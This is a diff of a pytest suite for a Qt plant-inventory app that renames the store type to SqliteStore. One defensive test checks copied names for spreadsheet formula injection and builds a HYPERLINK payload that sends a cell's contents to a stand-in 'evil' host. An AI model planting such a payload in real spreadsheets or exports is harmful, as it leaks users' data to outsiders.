@@ -19,7 +19,7 @@ from plantdesk.domain.imports import OnConflict
 from plantdesk.domain.records import FORM, Changes, PlantRow
 from plantdesk.domain.selections import Selection
 from plantdesk.domain.validation import new_plant
-from plantdesk.store.sqlite.store import Store
+from plantdesk.store.sqlite.store import SqliteStore
 from plantdesk.transfer.files import input_file
 from plantdesk.transfer.importing import FileImport, ImportOptions
 from plantdesk.ui.bridge import Bridge
@@ -37,7 +37,7 @@ CONTROL = Qt.KeyboardModifier.ControlModifier
 
 
 @pytest.fixture
-def table(qtbot: QtBot, browser: PlantBrowser, store: Store, add: Adder) -> PlantTableView:
+def table(qtbot: QtBot, browser: PlantBrowser, store: SqliteStore, add: Adder) -> PlantTableView:
     """The table with a hundred plants, the newest on top, and no signal of them pending."""
     add(*(f"Fern {number}" for number in range(1, 101)))
     browser.set_store(store)
@@ -77,7 +77,7 @@ def colors(table: PlantTableView, row: int, column: Column) -> set[str]:
 @pytest.mark.parametrize("count", [2_000, 50_000])
 @pytest.mark.parametrize("elsewhere", [True, False])
 def test_the_list_stays_at_its_top_whatever_number_is_imported(
-    qtbot: QtBot, table: PlantTableView, store: Store, tmp_path: Path, count: int, *, elsewhere: bool
+    qtbot: QtBot, table: PlantTableView, store: SqliteStore, tmp_path: Path, count: int, *, elsewhere: bool
 ) -> None:
     file = tmp_path / "file.csv"
     file.write_text("name\n" + "".join(f"New {number}\n" for number in range(1, count + 1)))
@@ -133,7 +133,7 @@ def test_a_selection_far_below_hides_no_new_plant(qtbot: QtBot, table: PlantTabl
 
 
 def test_the_pill_counts_all_rows_that_are_new_and_still_there(
-    qtbot: QtBot, table: PlantTableView, store: Store, bridge: Bridge, add: Adder
+    qtbot: QtBot, table: PlantTableView, store: SqliteStore, bridge: Bridge, add: Adder
 ) -> None:
     table.verticalScrollBar().setValue(500)
     rows = add(*(f"Aloe {number}" for number in range(30)))
@@ -240,7 +240,7 @@ def test_the_visible_rows_stay_when_all_rows_are_replaced(
 
 
 def test_ctrl_a_also_selects_the_rows_that_are_still_being_read(
-    qtbot: QtBot, browser: PlantBrowser, store: Store, add: Adder
+    qtbot: QtBot, browser: PlantBrowser, store: SqliteStore, add: Adder
 ) -> None:
     add(*(f"Fern {number}" for number in range(1, 1101)))
     complete = []
@@ -302,7 +302,7 @@ def test_ctrl_c_copies_the_selected_rows_as_a_table(
 
 @pytest.mark.parametrize("time", [-62_135_596_800_000, 253_402_300_799_999, -1000])
 def test_copied_names_keep_their_lines_inside_quotes_whatever_their_time(
-    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, store: Store, time: int
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, store: SqliteStore, time: int
 ) -> None:
     name = 'two\nlines, a\ttab and a "quote"'
     with closing(sqlite3.connect(store.path, isolation_level=None)) as other:  # another program
@@ -315,7 +315,7 @@ def test_copied_names_keep_their_lines_inside_quotes_whatever_their_time(
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
 def test_no_copied_name_is_a_formula(
-    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, store: Store, start: str
+    qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, store: SqliteStore, start: str
 ) -> None:
     name = f'{start}HYPERLINK("http://evil/?"&B2)'
     store.add(new_plant({"id": -5, "name": name, "tag": "+1"}), FORM).result(SECONDS)
